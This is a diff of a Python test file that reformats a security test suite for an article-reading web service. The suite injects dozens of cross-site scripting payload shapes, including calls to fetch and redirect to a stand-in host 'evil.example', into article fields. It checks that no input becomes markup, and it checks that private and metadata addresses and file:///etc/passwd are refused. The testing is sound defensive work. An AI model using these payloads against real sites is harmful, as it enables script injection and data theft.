@@ -14,16 +14,40 @@ pytestmark = pytest.mark.xdist_group("browser")
 
 CALLS = ("alert(1)", "window.pwned=1", "fetch('https://evil.example/')")
 SHAPES = (
-    "<script>{}</script>", "</title><script>{}</script>", "<img src=x onerror=\"{}\">", "<svg onload=\"{}\">",
-    "\" onmouseover=\"{}\" x=\"", "' autofocus onfocus='{}'", "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}",
-    "data:text/html,<script>{}</script>", "<a href=\"javascript:{}\">x</a>", "<iframe srcdoc=\"<script>{}</script>\">",
-    "<style>@import 'https://evil.example/{}'</style>", "</style><script>{}</script>", "{{{{ ''.__class__ }}}} {}",
-    "{{% raw %}} {}", "<math><mtext><script>{}</script>", "<base href=https://evil.example/>{}", "--><script>{}</script>",
-    "]]><script>{}</script>", "<form action=https://evil.example/><input name=x value='{}'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/?{}'>", "<link rel=stylesheet href=https://evil.example/{}>",
-    "\u202e{}\u202c<b>", "\u2066\u2067{}", "\x00<script>{}</script>", "\ud83d<script>{}</script>"[1:], "&lt;script&gt;{}",
-    "<object data=https://evil.example/{}>", "<video poster=https://evil.example/{} src=x>", "<noscript><img src=x:{}>",
-    "<template><script>{}</script></template>", "\\u003cscript\\u003e{}", "%3Cscript%3E{}%3C/script%3E",
+    "<script>{}</script>",
+    "</title><script>{}</script>",
+    '<img src=x onerror="{}">',
+    '<svg onload="{}">',
+    '" onmouseover="{}" x="',
+    "' autofocus onfocus='{}'",
+    "javascript:{}",
+    "JaVaScRiPt:{}",
+    "java\tscript:{}",
+    "data:text/html,<script>{}</script>",
+    '<a href="javascript:{}">x</a>',
+    '<iframe srcdoc="<script>{}</script>">',
+    "<style>@import 'https://evil.example/{}'</style>",
+    "</style><script>{}</script>",
+    "{{{{ ''.__class__ }}}} {}",
+    "{{% raw %}} {}",
+    "<math><mtext><script>{}</script>",
+    "<base href=https://evil.example/>{}",
+    "--><script>{}</script>",
+    "]]><script>{}</script>",
+    "<form action=https://evil.example/><input name=x value='{}'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/?{}'>",
+    "<link rel=stylesheet href=https://evil.example/{}>",
+    "\u202e{}\u202c<b>",
+    "\u2066\u2067{}",
+    "\x00<script>{}</script>",
+    "\ud83d<script>{}</script>"[1:],
+    "&lt;script&gt;{}",
+    "<object data=https://evil.example/{}>",
+    "<video poster=https://evil.example/{} src=x>",
+    "<noscript><img src=x:{}>",
+    "<template><script>{}</script></template>",
+    "\\u003cscript\\u003e{}",
+    "%3Cscript%3E{}%3C/script%3E",
 )
 INPUTS = [shape.format(call) for shape in SHAPES for call in CALLS]
 
@@ -31,17 +55,42 @@ INPUTS = [shape.format(call) for shape in SHAPES for call in CALLS]
 def poisoned(making: Any, text: str) -> Any:
     """An article with `text` in every place that a page or a record has for words of others."""
     return making.record(
-        [("title", f"T {text}"), ("byline", text), ("notice", text), ("heading", f"H {text}"), ("paragraph", f"P {text}"),
-         ("caption", f"C {text}"), ("credit", f"K {text}"), ("list", f"L {text}"), ("quotation", f"Q {text}"),
-         ("furniture", f"F {text}")],
+        [
+            ("title", f"T {text}"),
+            ("byline", text),
+            ("notice", text),
+            ("heading", f"H {text}"),
+            ("paragraph", f"P {text}"),
+            ("caption", f"C {text}"),
+            ("credit", f"K {text}"),
+            ("list", f"L {text}"),
+            ("quotation", f"Q {text}"),
+            ("furniture", f"F {text}"),
+        ],
         speakers=[{"id": "p1", "name": text, "type": "person", "title": text, "affiliation": text, "link": text}],
-        statements=[{"id": "s1", "kind": "direct", "content": (f"P {text}",), "addressee": f"P {text}", "speaker": "p1",
-                     "cue": (f"P {text}",), "hedges": (f"P {text}",), "said_on": text},
-                    {"id": "s2", "kind": "unattributed", "content": (f"H {text}",)}],
+        statements=[
+            {
+                "id": "s1",
+                "kind": "direct",
+                "content": (f"P {text}",),
+                "addressee": f"P {text}",
+                "speaker": "p1",
+                "cue": (f"P {text}",),
+                "hedges": (f"P {text}",),
+                "said_on": text,
+            },
+            {"id": "s2", "kind": "unattributed", "content": (f"H {text}",)},
+        ],
         timeline=[{"date": text, "precision": "day", "basis": text, "kind": "event", "mentions": (f"P {text}",)}],
         pictures=[{"url": text, "alt": text, "caption": f"C {text}", "credit": f"K {text}"}],
-        url=text, outlet=text, authors=(text,), published=text, published_basis="page", published_reason=text,
-        language=text, source=text,
+        url=text,
+        outlet=text,
+        authors=(text,),
+        published=text,
+        published_basis="page",
+        published_reason=text,
+        language=text,
+        source=text,
     )
 
 
@@ -54,14 +103,16 @@ def bad(reader: Any, making: Any) -> list[str]:
 def test_no_input_becomes_markup(reader: Any, bad: list[str]) -> None:
     """Every element and attribute is one that the templates wrote: the same for all inputs."""
     allowed = {
-        "script": {"src", "type"}, "link": {"rel", "href", "type", "as", "crossorigin", "title"},
-        "meta": {"charset", "name", "content", "http-equiv"}, "form": {"class", "method", "action", "aria-label"},
+        "script": {"src", "type"},
+        "link": {"rel", "href", "type", "as", "crossorigin", "title"},
+        "meta": {"charset", "name", "content", "http-equiv"},
+        "form": {"class", "method", "action", "aria-label"},
     }
     with httpx.Client(base_url=reader.url, headers={"Accept": "text/html"}) as client:
         for n, id in enumerate(bad):
             paths = [f"/articles/{id}", f"/articles/{id}/statements/s1", f"/articles/{id}/report"]
             for path in paths if n % 3 == 0 else paths[:1]:
-                tree = lxml.html.fromstring(client.get(path).content)
+                tree: Any = lxml.html.fromstring(client.get(path).content)
                 for element in tree.iter():
                     if not isinstance(element.tag, str):
                         continue
@@ -101,6 +152,12 @@ def test_names_cannot_turn_what_stands_beside_them(reader: Any, making: Any) -> 
 
 def test_private_addresses_are_never_asked(reader: Any) -> None:
     """Adding goes through `pages.fetch`; here its refusal comes back as the API's error."""
-    for url in ("http://127.0.0.1/", "http://[::1]/", "http://10.0.0.1/x", "http://169.254.169.254/latest", "file:///etc/passwd"):
+    for url in (
+        "http://127.0.0.1/",
+        "http://[::1]/",
+        "http://10.0.0.1/x",
+        "http://169.254.169.254/latest",
+        "file:///etc/passwd",
+    ):
         answer = httpx.post(f"{reader.url}/articles", json={"url": url}, timeout=60)
         assert answer.status_code == 422 and answer.json()["error"]["code"] == "not-public"
